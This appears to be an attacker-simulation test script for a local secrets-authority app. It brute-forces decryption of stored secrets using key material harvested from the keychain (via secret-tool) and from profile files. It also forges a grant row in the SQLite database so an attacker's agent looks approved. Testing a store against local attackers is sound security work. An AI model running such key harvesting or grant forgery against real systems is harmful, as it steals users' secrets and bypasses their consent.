/**
 * The embedded authority's SQLite file as an attacker of the same user reaches it. Modes:
 * - `decrypt DB SERVICE VALUE`: tries every key it can find on disk and in the keychain (each item's
 *   value and every 32-byte piece of it, every 32-byte base64 string in the profile's files) on every
 *   secret row, and searches the files for the value itself. Prints what opened.
 * - `forge DB CLIENT_ID VARIABLE`: copies a live grant row for the attacker's own agent (binding
 *   `client`: any program claiming the client ID), with better-sqlite3, as if the person had approved.
 */
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import Database from "better-sqlite3";
import { decryptSecret } from "../../src/server/crypto.js";

const [mode, dbFile = "", second = "", third = ""] = process.argv.slice(2);
const say = (line: unknown): void => void process.stdout.write(`${JSON.stringify(line)}\n`);

function filesUnder(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const full = path.join(dir, e.name);
    if (e.isDirectory()) return filesUnder(full);
    return e.isFile() ? [full] : [];
  });
}

type Row = Record<string, unknown>;
const db = new Database(dbFile);

if (mode === "forge") {
  const agent = db.prepare("SELECT id, user_id FROM agents WHERE client_id = ?").get(second) as Row | undefined;
  const template = db.prepare("SELECT * FROM grants WHERE ended_at IS NULL LIMIT 1").get() as Row | undefined;
  if (agent === undefined || template === undefined) {
    say({ forged: false, why: agent === undefined ? "no agent row" : "no live grant to copy" });
  } else {
    const row: Row = {
      ...template,
      id: `grt_forged${Date.now()}`,
      agent_id: agent["id"],
      variable: third,
      request_id: null,
      process_pid: null,
      process_start_time: null,
    };
    if ("binding" in row) row["binding"] = "client";
    const columns = Object.keys(row);
    db.prepare(`INSERT INTO grants (${columns.join(", ")}) VALUES (${columns.map((c) => `@${c}`).join(", ")})`).run(
      row,
    );
    say({ forged: true, columns });
  }
} else {
  const value = third;
  const dataDir = path.dirname(path.dirname(dbFile));
  const tool = spawnSync("secret-tool", ["search", "--all", "--unlock", "service", second], { encoding: "utf8" });
  const candidates = new Set<string>();
  const add = (text: string): void => {
    for (const m of text.matchAll(/[A-Za-z0-9+/_-]{43}=?/g))
      if (Buffer.from(m[0], "base64").length === 32) candidates.add(m[0]);
  };
  add(tool.stdout);
  const files = filesUnder(dataDir);
  let valueFoundIn: string | null = null;
  for (const f of files) {
    const bytes = fs.readFileSync(f);
    if (bytes.includes(Buffer.from(value))) valueFoundIn = f;
    add(bytes.toString("latin1"));
  }
  if (tool.stdout.includes(value)) valueFoundIn = "keychain";
  const secrets = db.prepare("SELECT id, user_id, ciphertext, key_id FROM secrets").all() as Row[];
  let opened = 0;
  for (const s of secrets) {
    for (const c of candidates) {
      try {
        const keys = {
          currentId: String(s["key_id"]),
          keys: new Map([[String(s["key_id"]), Buffer.from(c, "base64")]]),
        };
        decryptSecret(keys, String(s["key_id"]), `${String(s["user_id"])}:${String(s["id"])}`, String(s["ciphertext"]));
        opened++;
      } catch {
        // A wrong key: GCM's tag check fails.
      }
    }
  }
  say({ secrets: secrets.length, files: files.length, keysTried: candidates.size, opened, valueFoundIn });
}
db.close();
